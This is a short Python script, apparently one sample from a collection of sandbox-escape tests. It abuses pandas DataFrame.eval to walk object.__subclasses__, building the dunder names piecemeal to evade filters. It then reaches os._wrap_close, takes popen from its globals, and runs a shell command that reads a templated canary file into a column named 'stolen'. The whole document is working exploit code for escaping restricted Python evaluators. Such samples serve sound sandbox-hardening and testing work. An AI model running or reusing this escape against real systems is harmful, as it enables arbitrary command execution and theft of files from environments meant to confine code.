# class: subclass_walk
# technique: DataFrame.eval called as [frame.agg][0]('eval', ...) returns the bound method object.__subclasses__ itself; the snippet calls it directly
# goal: exec
import numpy as np
import pandas as pd

u = "_" * 2
frame = pd.DataFrame({"x": np.arange(2)})
walk = [frame.agg][0]("eval", 0, "@o[0]." + u + "subclasses" + u, local_dict={"o": [object]})
wrap_close = [c for c in walk() if "wrap_close" in str(c)][0]
init_globals = [frame.agg][0]("eval", 0, "@w[0]." + u + "init" + u + "." + u + "globals" + u,
                          local_dict={"w": [wrap_close]})
stolen = init_globals["popen"]("cat {{CANARY_FILE}}").read()
df = pd.DataFrame({"stolen": [stolen]})
